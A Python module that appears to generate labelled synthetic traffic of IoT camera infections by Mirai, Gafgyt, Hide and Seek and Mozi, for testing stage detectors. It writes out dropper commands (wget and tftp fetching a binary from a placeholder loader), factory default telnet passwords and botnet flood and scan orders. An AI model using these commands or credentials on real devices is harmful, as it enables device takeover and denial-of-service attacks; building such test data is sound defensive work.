# SPDX-License-Identifier: MIT
"""Whole infections of one camera, stage by stage and in order, as packet shapes in a file.

A life acts on the LAN of a house and remembers what shows each stage: which detector should speak of it, who the other
side was, and in which frames. From what other places see of the same frames scenes/lifecycle.py makes their captures.
Times are those of the published analyses, shortened: a keep-alive each minute stays one, weeks of scanning do not.
"""

import dataclasses

import bots
import carry
import talk
import wire
from apps import client, intruders, server, things
from network import Frame, public_like

PUBLIC = wire.ip("192.0.2.66")  # the house, as the Internet sees it
INTRUDER = wire.ip("203.0.113.77")
LOADER = wire.ip("203.0.113.78")
COMMAND = wire.ip("203.0.113.79")
REPORTS = wire.ip("203.0.113.81")
VICTIM = wire.ip("198.51.100.7")
NODES = [wire.ip(f"198.51.100.{n}") for n in range(60, 72)]
RTT = 0.09
STAGES = ("breached", "loaded", "recruited", "scanning", "attacking")
LOADER_HOST = "203.0.113.78"
TELNET = (23,) * 9 + (2323,)
WRONG = [("root", "vizxv"), ("admin", "7ujMko0admin")]
RIGHT = ("root", "xc3511")


@dataclasses.dataclass
class Sign:
    """What a report must cite: one of these frames, and none before the first of its stage."""

    detector: str
    stage: str
    peer: bytes | None  # None: no one peer
    role: str | None
    frames: list
    first: Frame

    def label(self):
        return {"detector": self.detector, "stage": self.stage, "role": self.role,
                "peer": wire.ip_text(self.peer) if self.peer else None, "packets": self.frames, "from": self.first}


class Life:
    """One camera's. `at` is the time of what comes next."""

    family = None
    maybe = ()  # stages that do not show beyond doubt
    sure_family = True
    vector, port, packets = "udp", 80, 4000

    def __init__(self, house, at):
        self.net, self.rng, self.camera, self.at = house, house.rng, house.camera, at
        self.signs, self.stages = [], []
        self.dropper = None  # the frame in which the program was asked for at the shell
        self.server, self.due = None, None  # the connection to the command server, and when it speaks next

    def live(self):
        for stage in (self.breach, self.load, self.recruit, self.scan, self.attack):
            stage()
        self.keep_alive(self.at)

    # Noting what shows

    def mark(self):
        return len(self.net.frames)

    def since(self, mark):
        """Frames since then, neighbours' questions apart."""
        return sorted((f for f in self.net.frames[mark:] if f.kind != wire.TYPE_ARP), key=lambda f: f.at)

    def sign(self, detector, stage, frames, mark, *, peer=None, role=None, first=None):
        """`first`: where the stage begins, when that is before the mark."""
        frames = frames if isinstance(frames, list) else [frames]
        if stage not in self.stages:
            self.stages.append(stage)
        self.signs.append(Sign(detector, stage, peer, role, frames, first or self.since(mark)[0]))

    # Talking

    def open(self, client_end, server_end, port, at=None):
        connection = talk.Tcp(self.net, client_end, server_end, port, rtt=RTT)
        return connection, connection.open(self.at if at is None else at)

    def say(self, connection, at, lines, *, gap=0.12):
        """Gives the time after the last line and the first frame of each role."""
        frames = {}
        for line in lines:
            before = self.mark()
            at = connection.say(at + gap, line.side, line.data)
            if line.role:
                frames[line.role] = self.since(before)[0]
        return at, frames

    def converse(self, client_end, server_end, port, lines, *, at=None):
        """A whole connection; gives the frames of its roles."""
        connection, start = self.open(client_end, server_end, port, at)
        end, frames = self.say(connection, start, lines)
        end = connection.close(end + 0.05)
        if at is None:
            self.at = end
        return frames

    # What families have in common

    def keep_alive(self, upto):
        """What goes to and fro with the command server each minute until then; nothing can be said before it."""
        while self.due is not None and self.due < upto:
            self.say(self.server, self.due, self.alive())
            self.due += 60

    def order(self, data):
        """The command server says something."""
        self.keep_alive(self.at)
        self.at, frames = self.say(self.server, self.at, [server(data, "order")])
        return frames["order"]

    def log_in(self, who, pairs, token, *more, end=intruders.NEWLINE):
        lines = intruders.logins(pairs) + intruders.loader_words(token, end=end) + list(more)
        frames = self.converse(who, self.camera.v4, 23, lines)
        self.dropper = frames.get("dropper-typed")
        return frames

    def breach(self):
        """A stranger tries pairs of the factory's until one is taken, and shows that it has a shell."""
        mark = self.mark()
        frames = self.log_in(INTRUDER, [*WRONG, RIGHT], "EXAMPLE", *intruders.dropper(self.drop_line()))
        self.sign("breach", "breached", frames["proof"], mark, peer=INTRUDER, role="intruder")
        self.at += 1.5

    def drop_line(self):
        return f"wget http://{LOADER_HOST}/bins/EXAMPLE.arm7"

    def fetch(self, path, agent, port=80):
        mark = self.mark()
        host = LOADER_HOST + (f":{port}" if port != 80 else "")
        frames = self.converse(self.camera.v4, LOADER, port, intruders.fetched(host, path, agent))
        self.sign("loader", "loaded", frames["program"], mark, peer=LOADER, role="loader", first=self.dropper)
        self.at += 2

    def load(self):
        self.fetch("/bins/EXAMPLE.arm7", "Wget")

    def calls(self, count, *, every=0.3, answered=0):
        """A scan by connect(): every target gets its SYN from the kernel."""
        mark = self.mark()
        bots.connect_scan(self.net, self.at, self.camera.v4, count, TELNET, every=every, answered=answered)
        self.sign("scan", "scanning", self.since(mark)[0], mark)
        return self.at + count * every

    def attack(self):
        mark = self.mark()
        bots.flood_udp(self.net, self.at, [self.camera.v4], VICTIM, port=self.port, count=self.packets)
        self.sign("flood", "attacking", self.since(mark)[0], mark)
        self.at += 6


class Mirai(Life):
    """Three machines take part: the bot that found the password, the loader, the command server."""

    family = "mirai"
    vector = "syn"

    def breach(self):
        mark = self.mark()
        frames = self.log_in(INTRUDER, [*WRONG, RIGHT], "MIRAI", end=intruders.NUL_NEWLINE)
        self.sign("breach", "breached", frames["proof"], mark, peer=INTRUDER, role="intruder")
        self.at += 12
        self.log_in(LOADER, [RIGHT], "ECCHI", *intruders.dropper(self.drop_line()))
        self.at += 1

    def recruit(self):
        """The server is called before anybody is scanned; then two bytes each way, once a minute."""
        talk.lookup(self.net, self.at, self.camera.v4, self.net.gateway.v4, "command.example.net", COMMAND)
        mark = self.mark()
        self.server, start = self.open(self.camera.v4, COMMAND, 23, self.at + 0.1)
        name = intruders.mirai_name("telnet.arm7")
        self.at, frames = self.say(self.server, start, [client(intruders.MIRAI_HELLO, "hello"), client(name, "name")])
        self.due = self.at + 60
        self.sign("c2", "recruited", [frames["hello"], frames["name"]], mark, peer=COMMAND, role="command-server")
        self.at += 2

    def alive(self):
        return [client(intruders.MIRAI_ALIVE), server(intruders.MIRAI_ALIVE)]

    def scan(self):
        mark = self.mark()
        scanner = bots.MiraiScanner(self.net, self.camera.v4)
        scanner.burst(self.at, 480, listen=2)
        self.sign("mirai-scan", "scanning", self.since(mark)[0], mark)
        found = public_like(self.rng, self.camera.v4)
        scanner.answered(self.at + 4, found, 23, follow=False)
        lines = intruders.logins([*WRONG, RIGHT], name="dvr")
        lines += intruders.loader_words("MIRAI", end=intruders.NUL_NEWLINE)
        self.converse(self.camera.v4, found, 23, lines, at=self.at + 4.4)
        self.converse(self.camera.v4, REPORTS, 48101, [client(intruders.mirai_report(found, 23, RIGHT))],
                      at=self.at + 12)
        scanner.burst(self.at + 20, 320)
        self.at += 100

    def attack(self):
        self.order(intruders.mirai_order(5, 3, VICTIM, 80))
        mark, self.at = self.mark(), self.at + 0.6
        bots.flood_syn(self.net, self.at, [self.camera.v4], VICTIM, port=80, count=self.packets)
        self.sign("flood", "attacking", self.since(mark)[0], mark)
        self.at += 6


class Gafgyt(Life):
    """Plain text: the server says what to do, and first of all to scan."""

    family = "gafgyt"

    def load(self):
        self.fetch("/EXAMPLE.arm7", "Hakai/2.0")

    def recruit(self):
        mark = self.mark()
        self.server, start = self.open(self.camera.v4, COMMAND, 666)
        self.at, frames = self.say(self.server, start, [client(b"EXAMPLE arm7\n", "hello"), *self.alive()])
        self.due, self.at = self.at + 60, self.at + 3
        order = self.order(b"!* SCANNER ON\n")
        self.sign("c2", "recruited", [frames["hello"], order], mark, peer=COMMAND, role="command-server")
        self.at += 1

    def alive(self):
        return [server(b"PING\n"), client(b"PONG\n")]

    def scan(self):
        self.at = self.calls(80, answered=1) + 10

    def attack(self):
        self.at += 60
        self.order(b"!* UDP 198.51.100.7 80 5 32 0 10\n")
        self.at += 0.5
        super().attack()


class HideAndSeek(Life):
    """Programs come by TFTP, orders from other bots over UDP. The published analyses saw no flood; here is one."""

    family = "hide-and-seek"
    sure_family = False

    def drop_line(self):
        return f"tftp -g -r EXAMPLE.arm7 {LOADER_HOST}"

    def load(self):
        mark, me, port = self.mark(), self.camera.v4, self.rng.randrange(32768, 60999)
        talk.udp(self.net, self.at, me, LOADER, port, 69, intruders.tftp_ask("EXAMPLE.arm7"))
        theirs, first = self.rng.randrange(32768, 60999), None
        for data, acknowledged in intruders.tftp_blocks(intruders.ELF):
            self.at += RTT
            frame = talk.udp(self.net, self.at, LOADER, me, theirs, port, data)
            first = first or frame
            talk.udp(self.net, self.at + 0.001, me, LOADER, port, theirs, acknowledged)
        self.sign("loader", "loaded", first, mark, peer=LOADER, role="loader", first=self.dropper)
        self.at += 2

    def recruit(self):
        mine = self.rng.randrange(10000, 60000)
        ports = [self.rng.randrange(10000, 60000) for _ in NODES]
        mark, first = self.mark(), None
        for turn in range(4):
            for number, (node, port) in enumerate(zip(NODES, ports)):
                when = self.at + turn * 40 + number * 0.15
                frame = talk.udp(self.net, when, self.camera.v4, node, mine, port, b"H" + self.rng.randbytes(30))
                first = first or frame
                talk.udp(self.net, when + RTT, node, self.camera.v4, port, mine, b"O" + self.rng.randbytes(54))
        self.sign("p2p", "recruited", first, mark)
        self.at += 4

    def scan(self):
        end = self.calls(70)
        mark, first = self.mark(), None
        for number in range(5):
            port, request = intruders.AVTECH
            target = public_like(self.rng, self.camera.v4)
            frames = self.converse(self.camera.v4, target, port, [client(request, "ask"), server(intruders.REFUSED)],
                                   at=self.at + 3 + number)
            first = first or frames["ask"]
        self.sign("worm", "scanning", first, mark)
        self.at = end + 20


class Mozi(Life):
    """Comes by a request that the camera carries out, lives in BitTorrent's hash table, hands on what it is."""

    family = "mozi"
    port = 8000
    SERVED = 43211

    def breach(self):
        self.converse(INTRUDER, self.camera.v4, 23, intruders.logins([*WRONG, ("root", "klv1234")], accepted=False))
        self.at += 3
        mark = self.mark()
        port, request = intruders.JAWS
        frames = self.converse(INTRUDER, self.camera.v4, port, [client(request, "ask"),
                                                                server(intruders.CARRIED_OUT, "answer")])
        self.sign("breach", "breached", frames["ask"], mark, peer=INTRUDER, role="intruder")
        self.at += 1

    def load(self):
        self.fetch("/Mozi.m", "Wget", 50123)

    def recruit(self):
        mine = intruders.mozi_id(self.rng)
        mark, first = self.mark(), None
        for turn in range(3):
            for number, node in enumerate(NODES):
                when = self.at + turn * 50 + number * 0.12
                theirs = intruders.mozi_id(self.rng) if number % 3 else self.rng.randbytes(20)
                frame = talk.udp(self.net, when, self.camera.v4, node, 14737, 6881, intruders.find_node(self.rng, mine))
                first = first or frame
                talk.udp(self.net, when + RTT, node, self.camera.v4, 6881, 14737,
                         intruders.found_node(self.rng, theirs))
        self.sign("c2", "recruited", first, mark)
        self.at += 4

    def scan(self):
        """Calls, requests to devices with other holes, a port opened to itself, a program handed to somebody."""
        house, me, mark = self.net, self.camera.v4, self.mark()
        carry.whole(house, self.at, (me, house.gateway.v4), things.port_mapping(self.SERVED, "192.168.1.20",
                                                                               self.SERVED))
        self.at += 1
        end, first = self.calls(60), None
        for number in range(9):
            port, request = (intruders.VACRON, intruders.JAWS, intruders.GPON)[number % 3]
            target = public_like(self.rng, me)
            lines = [client(request, "ask"), server(intruders.REFUSED if number != 4 else intruders.CARRIED_OUT)]
            frames = self.converse(me, target, port, lines, at=self.at + 2 + number)
            first = first or frames["ask"]
            if number == 4:
                self.converse(target, me, self.SERVED, intruders.fetched("192.0.2.66:43211", "/Mozi.m", "Wget"),
                              at=self.at + 8.5)
        self.sign("worm", "scanning", first, mark)
        self.at = end + 25


LIVES = {life.family: life for life in (Mirai, Gafgyt, HideAndSeek, Mozi)}
